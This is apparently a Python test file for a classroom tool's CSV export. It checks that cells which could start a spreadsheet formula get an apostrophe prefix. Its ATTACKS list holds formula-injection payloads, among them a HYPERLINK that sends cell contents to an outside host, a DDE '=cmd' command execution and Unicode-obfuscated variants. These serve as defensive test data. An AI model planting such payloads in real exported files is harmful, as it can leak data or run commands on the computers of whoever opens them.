"""Cells that come from outside never begin like a formula, and nothing is lost from them."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from medialit.classroom.cells import as_csv, begins_like_a_formula, cell, guarded

ATTACKS = [
    '=HYPERLINK("http://medialit.example/?x="&A1,"open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "\u202e=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\ufe631",
    " \u3000\uff1d1",
    "=cmd|' /C calc'!A0",
]
SHEET_SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_could_run_gets_an_apostrophe(text: str) -> None:
    assert guarded(text).startswith("'")


@pytest.mark.parametrize(
    "text", ["", "Ann", "an-other", "O'Neil", "a=b", "1-2", "\u00e9t\u00e9", "user@example.org", " x"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("Ann;=1", "Ann;'=1"),
        ("Ann\n=1", "Ann\n'=1"),
        ('Ann";"=1', 'Ann";"\'=1'),
        ("a;\t+1", "a;\t'+1"),
        ("a; b", "a; b"),
    ],
)
def test_a_cell_that_would_begin_after_a_semicolon_or_a_line_is_guarded_too(text: str, safe: str) -> None:
    assert guarded(text) == safe


@given(st.text() | st.text(alphabet=SHEET_SIGNS + " ;'\"a1\u200b\u00a0"))
@example("=")
def test_no_guarded_text_begins_like_a_formula_and_guarding_twice_changes_nothing(text: str) -> None:
    safe = guarded(text)
    assert not begins_like_a_formula(safe)
    assert safe[:1] not in SHEET_SIGNS or not safe
    assert guarded(safe) == safe


@given(st.text())
def test_nothing_but_apostrophes_is_added(text: str) -> None:
    assert guarded(text).replace("'", "") == text.replace("'", "")


@given(st.lists(st.lists(st.text() | st.integers() | st.booleans() | st.none(), min_size=2, max_size=2)))
def test_no_cell_of_a_csv_file_begins_like_a_formula_but_a_number(rows: list[list[object]]) -> None:
    table = list(csv.reader(io.StringIO(as_csv(["=a", "b"], rows), newline="")))
    assert len(table) == len(rows) + 1
    assert table[0] == ["'=a", "b"]
    for written, row in zip(table[1:], rows, strict=True):
        for text, value in zip(written, row, strict=True):
            assert not begins_like_a_formula(text) or (type(value) is int and text == str(value))


def test_numbers_stay_numbers_and_missing_ones_are_empty() -> None:
    assert [cell(value) for value in (-1, 0.5, True, False, None, float("nan"))] == [-1, 0.5, "yes", "no", "", ""]
